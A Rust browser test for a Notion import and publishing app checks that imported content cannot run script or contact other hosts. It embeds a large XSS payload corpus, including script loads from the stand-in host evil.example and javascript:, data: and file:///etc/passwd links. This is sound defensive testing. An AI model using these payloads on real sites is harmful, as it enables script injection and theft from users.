//! Whatever stands in Notion, nothing of it runs in a browser and nothing is asked of another host, though the browser is told to let
//! everything through that our policy forbids.

use std::io::Read;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use chrono::Utc;
use notion_import_core::NotionId;
use notion_import_core::testing::{
    Author, Block, World, block, bookmark, bulleted, callout, code, equation, external, heading, paragraph,
    quote, table, text, to_do, toggle,
};
use serde_json::{Value, json};

use crate::chromium::Chromium;
use crate::publishing::publish_as;
use crate::refusals::Stage;

/// What tells that something ran.
const JS: &str = "window.hit=1";

/// What tells that something was asked for.
const ELSEWHERE: &str = "evil.example";

/// Tags, with handlers they call by themselves.
const TAGS: &[&str] = &[
    "img src=x",
    "svg",
    "body",
    "iframe src=x",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "object data=x",
    "embed src=x",
    "math",
    "select autofocus",
    "textarea autofocus",
    "style",
    "link rel=stylesheet href=x",
    "button autofocus",
    "svg><animate attributeName=x",
    "svg><set attributeName=x",
    "video><source",
];
const HANDLERS: &[&str] = &["onerror", "onload", "onfocus", "ontoggle", "onbegin", "onstart"];

/// How a tag may be hidden, or come out of what it stands in.
const FRAMES: &[(&str, &str)] = &[
    ("<", ">"),
    ("\"><", ">"),
    ("'><", " >"),
    ("</title><", "//"),
    ("--><", ">"),
    ("</textarea><", "><!--"),
    ("</code></pre><", ">"),
    ("<\u{0}", ">"),
    ("\\<", ">"),
    ("&lt;<", ">"),
    ("`<", "`>"),
    ("|<", "|>"),
];

/// Whole things.
const WHOLE: &[&str] = &[
    "<script>JS</script>",
    "<SCRIPT SRC=//HOST/x.js></SCRIPT>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<script/x>JS</script>",
    "%3Cscript%3EJS%3C/script%3E",
    "&lt;script&gt;JS&lt;/script&gt;",
    "&#60;script&#62;JS&#60;/script&#62;",
    "\u{ff1c}script\u{ff1e}JS",
    "<svg><script>JS</script></svg>",
    "<svg/onload=JS>",
    "<!--><script>JS</script>",
    "<![CDATA[<script>JS</script>]]>",
    "<?xml version=\"1.0\"?><script>JS</script>",
    "<template><script>JS</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=JS&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
    "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
    "<base href=//HOST/>",
    "<meta http-equiv=refresh content=\"0;url=//HOST/\">",
    "<link rel=prefetch href=//HOST/>",
    "<link rel=stylesheet href=//HOST/x.css>",
    "<style>@import '//HOST/x.css'</style>",
    "<div style=\"background:url(//HOST/b)\">x</div>",
    "<img src=//HOST/pixel>",
    "<img srcset=\"//HOST/pixel 1x\">",
    "<picture><source srcset=//HOST/p><img></picture>",
    "<form action=//HOST/><button>x</button></form>",
    "<object data=//HOST/o></object>",
    "<video poster=//HOST/p></video>",
    "<a href=javascript:JS>x</a>",
    "<a href=x ping=//HOST/p>x</a>",
    "<svg><use href=//HOST/u#x></use></svg>",
    "![x](http://HOST/p.png)",
    "![x](//HOST/p.png)",
    "![x](javascript:JS)",
    "[x](javascript:JS)",
    "[x](<javascript:JS>)",
    "[x]( javascript:JS)",
    "<javascript:JS>",
    "[x][y]\n\n[y]: javascript:JS",
    "[x](data:text/html,<script>JS</script>)",
    "<http://HOST/\"onmouseover=\"JS>",
    "```\n</code></pre><script>JS</script>",
    "~~~html\n<script>JS</script>\n~~~",
    "    <script>JS</script>",
    "> <script>JS</script>",
    "- <img src=x onerror=JS>",
    "| <img src=x onerror=JS> |",
    "[^1]: <script>JS</script>",
    "$\\href{javascript:JS}{x}$",
    "<details open ontoggle=JS>",
    "{{constructor.constructor('JS')()}}",
    "${JS}",
    "<x onclick=JS>x</x>",
    "<div\nonmouseover\n=\nJS>x",
    "<img src=x onerror\u{a0}=JS>",
    "<IMG SRC=\"jav&#x09;ascript:JS;\">",
    "<b id=hit>x</b>",
    "<a name=body>x</a><form id=forms>",
    "<isindex type=image src=1 onerror=JS>",
    "<table background=//HOST/t>",
];

/// Where links lead.
const ADDRESSES: &[&str] = &[
    "javascript:JS",
    "JaVaScRiPt:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    " javascript:JS",
    "\u{1}javascript:JS",
    "javascript&colon;JS",
    "javascript&#58;JS",
    "javascript://HOST/%0aJS",
    "javascript:/*HOST*/JS",
    "vbscript:JS",
    "data:text/html,<script>JS</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload='JS'/>",
    "blob:http://HOST/1",
    "file:///etc/passwd",
    "feed:javascript:JS",
    "view-source:javascript:JS",
    "//HOST/l",
    "\\\\HOST\\l",
    "http://HOST/\"><script>JS</script>",
    "http://HOST/' onmouseover='JS",
    "http://HOST/<svg onload=JS>",
    "http://HOST/?q=`JS`",
    "http://HOST/)[x](javascript:JS",
    "http://HOST/>)<img src=x onerror=JS>",
];

fn filled(pattern: &str) -> String {
    pattern.replace("JS", JS).replace("HOST", ELSEWHERE)
}

/// Everything that is tried as words.
fn corpus() -> Vec<String> {
    let mut all: Vec<String> = WHOLE.iter().chain(ADDRESSES).map(|pattern| filled(pattern)).collect();
    for (number, tag) in TAGS.iter().enumerate() {
        for (turn, handler) in HANDLERS.iter().enumerate() {
            let (open, close) = FRAMES[(number * HANDLERS.len() + turn) % FRAMES.len()];
            all.push(format!("{open}{tag} {handler}={JS}{close}"));
        }
    }
    all
}

/// Words in a block of each kind in turn.
fn said(number: usize, words: &str) -> Block {
    match number % 12 {
        0 => heading(1, words),
        1 => bulleted(words),
        2 => to_do(words, false),
        3 => toggle(words, [paragraph(words)]),
        4 => quote(words),
        5 => callout("<script>", words),
        6 => code(words, words),
        7 => equation(words),
        8 => table([[words, words]]),
        9 => external("image", &format!("http://{ELSEWHERE}/{number}.png")).caption(words),
        10 => paragraph(text("").bold(words).italic(words).code(words).colored(words, words).equation(words)),
        _ => block(words, json!({"rich_text": text(words).into_value(), "type": words})),
    }
}

/// Pages that say all of it, below the first.
fn write(author: &Author, place: NotionId) -> Vec<(&'static str, NotionId)> {
    let corpus = corpus();
    let words = author.page(place, "Words");
    for (number, payload) in corpus.iter().enumerate() {
        author.append(words, [paragraph(payload.as_str()), said(number, payload)]);
    }
    let links = author.page(place, "Links");
    for (number, address) in ADDRESSES.iter().map(|address| filled(address)).enumerate() {
        let kind = ["image", "video", "pdf", "file", "audio"][number % 5];
        let person = json!({"type": "user", "user": {"object": "user", "id": links, "name": address, "avatar_url": address}});
        author.append(
            links,
            [
                paragraph(text("See ").link("this", &address).mention(person, &address, Some(&address))),
                bookmark(&address),
                block("embed", json!({"url": address, "caption": text(address.as_str()).into_value()})),
                external(kind, &address).with("name", address.as_str()),
            ],
        );
    }
    let columns = ["<b onclick=hit=1>Words</b>", "Kind", "Link", "Files"];
    let [rich, kind, link, files] = columns;
    let of_types = [(rich, "rich_text"), (kind, "select"), (link, "url"), (files, "files")];
    let vendors = author.database(place, "<img src=x onerror=hit=1>", of_types).data_source;
    for payload in &corpus {
        let file = json!([{"type": "external", "name": payload, "external": {"url": format!("http://{ELSEWHERE}/f")}}]);
        author.row(
            vendors,
            payload.as_str(),
            [
                (rich, text(payload.as_str()).into_value()),
                (kind, json!({"name": payload, "color": payload})),
                (link, json!(payload)),
                (files, file),
            ],
        );
    }
    let mut all = vec![("page", words), ("page", links), ("database", vendors)];
    for title in corpus.iter().step_by(corpus.len() / 12) {
        let page = author.page(place, title.as_str());
        author.set_icon(
            page,
            json!({"type": "external", "external": {"url": format!("http://{ELSEWHERE}/icon.svg")}}),
        );
        author.set_cover(
            page,
            json!({"type": "external", "external": {"url": format!("http://{ELSEWHERE}/cover")}}),
        );
        author.append(page, [paragraph("Words.")]);
        all.push(("page", page));
    }
    author.set_icon(links, json!({"type": "emoji", "emoji": "<svg onload=hit=1>"}));
    all
}

/// A host that is none of ours, and how often something was asked of it.
fn elsewhere() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, asked) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
    let count = asked.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            // The browser connects ahead of asking: what counts is a request, or a greeting of TLS.
            let mut first = [0];
            let read = stream.and_then(|mut stream| {
                stream.set_read_timeout(Some(Duration::from_secs(1)))?;
                stream.read(&mut first)
            });
            count.fetch_add(read.unwrap_or_default(), Ordering::SeqCst);
        }
    });
    (port, asked)
}

/// What there is in a page that may run something or ask for something.
const FOUND: &str = r#"
    const found = window.hit ? ['something ran'] : [];
    const never = 'script iframe object embed base style template noscript math marquee video audio portal frame applet'.split(' ');
    const addresses = 'href src action formaction poster data ping background xlink:href cite longdesc'.split(' ');
    const ours = document.querySelector('head > script[src="/script.js"]');
    for (const element of document.querySelectorAll('*')) {
        if (element === ours) continue;
        const name = element.localName;
        if (never.includes(name) || (name === 'meta' && element.httpEquiv)) found.push('a ' + name);
        for (const attribute of element.attributes) {
            if (attribute.name.startsWith('on')) found.push(name + ' with ' + attribute.name);
            if (attribute.name === 'style' && /url|import|expression/i.test(attribute.value)) found.push(name + ' with a style');
            if (!addresses.includes(attribute.name)) continue;
            const address = new URL(attribute.value, location.href);
            const leads = ['a', 'area'].includes(name) && ['http:', 'https:', 'mailto:', 'tel:'].includes(address.protocol);
            if (!leads && address.origin !== location.origin) found.push(name + ' ' + attribute.name + '=' + attribute.value);
        }
        if (element.srcset) found.push(name + ' with a srcset');
    }
    return found;
"#;

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_what_stands_in_notion_runs_or_is_asked_of_another_host() {
    assert!(corpus().len() >= 200, "{}", corpus().len());
    let world = World::new(11);
    let author = world.at(Utc::now());
    let workspace = author.workspace("Halden Pay");
    let root = author.page(workspace, "<script>window.hit=1</script>");
    let written = write(&author, root);
    let stage = Stage::of(world, workspace, root).await;
    let ada = stage.demo.browser_of("ada").await;
    stage.connect(&ada).await;
    let picks: Vec<_> = written.iter().map(|(kind, id)| format!("{kind} {id} x")).collect();
    let fields: Vec<_> = picks.iter().map(|pick| ("pick", pick.as_str())).collect();
    let progress = ada.post("/import", &fields).await.ok();
    ada.wait_for(&progress.path, "Done.").await.not_saying("Failed");
    let done = ada.get(&progress.path).await;
    let documents = done.all_between("<a href=\"/documents/", "\"");
    assert_eq!(documents.len(), written.len(), "{}", done.text());
    for document in &documents {
        publish_as(&ada, &format!("/documents/{document}"), 1, "public").await.ok();
    }
    let payload = filled(WHOLE[0]);
    let who = [
        ("name", "<svg onload=hit=1>"),
        ("company", &payload),
        ("mail", "x@evil.example"),
        ("reason", &payload),
    ];
    stage.demo.browser().post("/t/halden/ask", &who).await;

    // In the feed, a title is text.
    let feed = stage.demo.browser().get("/t/halden/changes.atom").await.ok().text();
    let parsed = roxmltree::Document::parse(&feed).unwrap();
    let titles: Vec<_> = parsed.descendants().filter(|node| node.tag_name().name() == "title").collect();
    assert_eq!(titles.len(), 1 + documents.len());
    assert!(titles.iter().all(|title| title.children().all(|child| child.is_text())), "{feed}");
    let names = "feed id title subtitle link updated author name entry category summary";
    let is_known =
        |node: &roxmltree::Node<'_, '_>| names.split(' ').any(|name| node.tag_name().name() == name);
    assert!(parsed.descendants().filter(|node| node.is_element()).all(|node| is_known(&node)), "{feed}");

    let (port, asked) = elsewhere();
    let option = format!("--host-resolver-rules=MAP {ELSEWHERE} 127.0.0.1:{port}");
    let chromium = Chromium::open_with(&stage.demo, Some(&option)).await;
    chromium.tell("Page.setBypassCSP", json!({"enabled": true})).await;
    would_be_seen(&chromium, &asked).await;
    let sites = ["/t/halden", "/t/halden?sort=newest", "/t/halden/about", "/t/halden/ask", "/"];
    let mut pages: Vec<_> = sites.into_iter().map(str::to_owned).collect();
    pages.extend(documents.iter().map(|document| format!("/t/halden/d/{document}")));
    for page in &pages {
        nothing_runs(&chromium, page).await;
    }
    chromium.be("Ada Lindqvist").await;
    let of_documents = |document: &String| {
        let page = format!("/documents/{document}");
        [page.clone(), format!("{page}/publish?version=1"), format!("{page}/level?to=internal")]
    };
    for page in documents.iter().flat_map(of_documents) {
        nothing_runs(&chromium, &page).await;
    }
    for pick in &picks {
        nothing_runs(&chromium, &format!("/import/preview?pick={}", pick.replace(' ', "+"))).await;
    }
    for page in [
        "/import",
        "/documents",
        "/integrations",
        "/requests",
        "/readings",
        "/audit",
        "/audit/access",
        &progress.path,
    ] {
        nothing_runs(&chromium, page).await;
    }
    assert_eq!(asked.load(Ordering::SeqCst), 0, "{ELSEWHERE} was asked for something");
    chromium.client.clone().close().await.unwrap();
}

/// What runs, and what is asked of another host, would be seen: the policy is off.
async fn would_be_seen(chromium: &Chromium, asked: &AtomicUsize) {
    chromium.go("/t/halden").await;
    let tag = format!("<img src=//{ELSEWHERE}/control onerror={JS}>");
    let insert = "document.body.insertAdjacentHTML('beforeend', arguments[0])";
    chromium.client.execute(insert, vec![json!(tag)]).await.unwrap();
    for _ in 0..100 {
        let hit = chromium.client.execute("return window.hit === 1", Vec::new()).await.unwrap();
        if hit == json!(true) && asked.load(Ordering::SeqCst) > 0 {
            asked.store(0, Ordering::SeqCst);
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the control did not run, or asked for nothing: {}", asked.load(Ordering::SeqCst));
}

async fn nothing_runs(chromium: &Chromium, page: &str) {
    chromium.go(page).await;
    let found = chromium.client.execute(FOUND, Vec::<Value>::new()).await.unwrap();
    assert_eq!(found, json!([]), "{page}");
    let led = chromium.client.current_url().await.unwrap();
    assert!(led.path() == page.split('?').next().unwrap(), "{page} led to {led}");
}
